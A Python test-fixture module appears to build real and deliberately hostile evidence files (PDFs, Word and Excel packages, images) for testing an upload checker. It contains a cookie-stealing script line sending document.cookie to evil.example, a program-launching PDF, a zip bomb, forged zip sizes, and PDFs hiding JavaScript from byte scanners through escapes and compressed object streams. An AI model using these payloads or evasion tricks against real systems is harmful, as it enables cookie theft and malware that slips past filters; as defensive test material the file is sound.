"""Real files of every kind evidence may be, made by the libraries that make them, and the
hostile files an attacker made of them: the evidence checks read content, so the tests
give them content that is what it says it is (or carefully is not)."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ContentStream, DictionaryObject, NameObject, TextStringObject

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
OFFICE_DOCUMENT = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(*, pages: int = 1, change=None, **encrypt) -> bytes:
    """A PDF of blank A4 pages; `change(writer)` adds to it, `encrypt` locks it."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    if encrypt:
        writer.encrypt(**encrypt)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_that_runs(program: str = "calc.exe") -> bytes:
    """A PDF that asks the reader to start a program when it is opened."""

    def launch(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject(program)}
        )

    return pdf(change=launch)


PDF = pdf()


def docx(*, main_type: str = WORD_MAIN, parts: dict[str, bytes] | None = None) -> bytes:
    """The smallest Word document Word opens: its content types, the package's
    relationships and one paragraph; `parts` adds (or replaces) parts by name."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        "</Types>"
    )
    relationships = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="word/document.xml"/>'
        "</Relationships>"
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Workforce plan: 20 detectives'
        "</w:t></w:r></w:p></w:body></w:document>"
    )
    members = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": relationships.encode(),
        "word/document.xml": document.encode(),
        **(parts or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@functools.cache
def docx_bomb() -> bytes:
    """A 204 KB Word document with a part of 200 MB of zeros, squeezed a thousandfold."""
    buffer = io.BytesIO(docx())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/filler.bin", "w") as part,
    ):
        block = bytes(1024 * 1024)
        for _ in range(200):
            part.write(block)
    return buffer.getvalue()


def declaring(archive: bytes, part: str, size: int) -> bytes:
    """The zip with its part said to expand to `size` bytes, in the central directory and
    the local header alike: a zip's sizes are its maker's word, nothing more."""
    data = bytearray(archive)
    name = part.encode()
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    struct.pack_into("<I", data, central + 24, size)
    local = data.rindex(b"PK\x03\x04", 0, data.index(name))
    struct.pack_into("<I", data, local + 22, size)
    return bytes(data)


def xlsx() -> bytes:
    book = Workbook()
    book.active.append(["force", "detectives"])
    book.active.append(["Durham", 120])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def image(kind: str, *, size: tuple[int, int] = (40, 30), mode: str = "RGB", picture=None) -> bytes:
    """A plain picture (or the one given) in the named format: PNG, JPEG, GIF, WEBP, or
    PDF (a page holding the picture, as a scanner makes)."""
    buffer = io.BytesIO()
    picture = picture or Image.new(mode, size, "navy" if mode == "RGB" else 0)
    picture.save(buffer, format=kind)
    return buffer.getvalue()


PNG = image("PNG")
JPEG = image("JPEG")

# A drawing as Word stores its icons.
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 96 96">'
    b'<style>.a{fill:#1d70b8}</style><circle class="a" cx="48" cy="48" r="40"/></svg>'
)
SCRIPT = b"<html><body><script>fetch('http://evil.example/'+document.cookie)</script></body></html>"


def pdf_drawing(operators: bytes) -> bytes:
    """A one-page PDF whose page draws with these content-stream operators."""

    def draw(writer):
        content = ContentStream(None, writer)
        content.set_data(operators)
        writer.pages[0].replace_contents(content)

    return pdf(change=draw)


def pdf_with_javascript() -> bytes:
    """A PDF that runs JavaScript when opened (and lists it by name)."""
    return pdf(change=lambda writer: writer.add_open_action(JavaScript("app.alert('hello');")))


def pdf_with_attachment() -> bytes:
    return pdf(change=lambda writer: writer.add_attachment("payload.html", b"<b>hello</b>"))


def pdf_with_disguised_javascript() -> bytes:
    """The JavaScript PDF with its names spelt in #-escapes, which a reader decodes
    (/J#61vaScript is /JavaScript), so looking for the bytes "/JavaScript" misses it."""
    disguised = (
        pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    )
    assert b"/JavaScript" not in disguised and b"/JS " not in disguised
    return disguised


def pdf_with_compressed_javascript() -> bytes:
    """A PDF 1.5 whose JavaScript action is inside a compressed object stream, found only
    through its cross-reference stream: nothing in the file's bytes names it."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"5 0 "
    squeezed = zlib.compress(header + action)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(squeezed))
        + squeezed
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    assert b"JavaScript" not in out
    return bytes(out)


def pdf_with_javascript_behind_another_object() -> bytes:
    """A PDF whose cross-reference table puts a harmless object 5 inside a string of
    object 4, just before object 4's JavaScript: to a search for the nearest object
    before the name, the name is object 5's, and object 5 has none."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number, body in {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /T (5 0 obj << >> endobj) /S /JavaScript /JS (app.alert\\(1\\)) >>",
    }.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = out.index(b"5 0 obj")
    start = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 6))
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)
